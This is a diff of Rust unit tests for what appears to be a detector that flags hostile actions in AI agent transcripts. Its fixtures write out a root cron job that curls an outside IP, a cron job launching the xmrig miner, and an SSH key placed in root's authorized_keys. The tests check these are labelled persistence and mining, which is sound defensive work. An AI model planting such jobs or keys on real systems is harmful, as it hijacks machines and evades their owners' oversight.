@@ -234,17 +234,9 @@ mod tests {
 
     #[test]
     fn an_editing_tool_installs_as_a_shell_does() {
-        let mut world = World::default();
-        let transcript = world.episode("a.jsonl", None);
-        let step = world.step(transcript, None, "");
-        let text = "0 * * * * root curl http://198.51.100.20/x";
-        world.intake.steps[step].command = None;
-        world.intake.steps[step].tool = "Write".to_owned();
-        world.intake.steps[step].arguments =
-            serde_json::json!({ "file_path": "/etc/cron.d/beat", "content": text }).to_string();
-        let act = world.acts().remove(step);
-        assert_eq!(act.install.map(|install| install.by), Some("cron".to_owned()));
+        let act = written("/etc/cron.d/beat", "0 * * * * root curl http://198.51.100.20/x");
         assert!(act.tokens.contains(&peer()));
+        assert_eq!(act.install.map(|install| install.by), Some("cron".to_owned()));
     }
 
     #[test]
@@ -304,21 +296,29 @@ mod tests {
         }
     }
 
+    /// What an editing tool does that writes a text.
+    fn written(path: &str, text: &str) -> Act {
+        let mut world = World::default();
+        let transcript = world.episode("a.jsonl", None);
+        let step = world.step(transcript, None, "");
+        world.intake.steps[step].command = None;
+        world.intake.steps[step].tool = "Write".to_owned();
+        world.intake.steps[step].arguments = serde_json::json!({ "file_path": path, "content": text }).to_string();
+        world.acts().remove(step)
+    }
+
     #[test]
-    fn an_editing_tool_meets_no_rules_but_those_on_what_is_run_again() {
+    fn an_editing_tool_meets_no_rules_but_those_on_what_is_run_again_and_on_what_that_runs() {
+        let job = "* * * * * root ./xmrig -o 198.51.100.20:3333 -u wallet";
+        let behaviours: BTreeSet<String> =
+            written("/etc/cron.d/beat", job).hits.iter().map(|hit| format!("{:?}", hit.behaviour)).collect();
+        assert_eq!(behaviours, BTreeSet::from(["Mining".to_owned(), "Persistence".to_owned()]));
         for (path, kinds) in [
             ("/etc/cron.d/beat", vec!["cron-file-written"]),
             ("/root/.ssh/authorized_keys", vec![]),
             ("/work/notes.txt", vec![]),
         ] {
-            let mut world = World::default();
-            let transcript = world.episode("a.jsonl", None);
-            let step = world.step(transcript, None, "");
-            world.intake.steps[step].command = None;
-            world.intake.steps[step].tool = "Write".to_owned();
-            let arguments = serde_json::json!({ "file_path": path, "content": "ssh-ed25519 AAAA" });
-            world.intake.steps[step].arguments = arguments.to_string();
-            let act = world.acts().remove(step);
+            let act = written(path, "ssh-ed25519 AAAA");
             assert_eq!(act.hits.iter().map(|hit| hit.kind.as_str()).collect::<Vec<_>>(), kinds, "{path}");
         }
     }
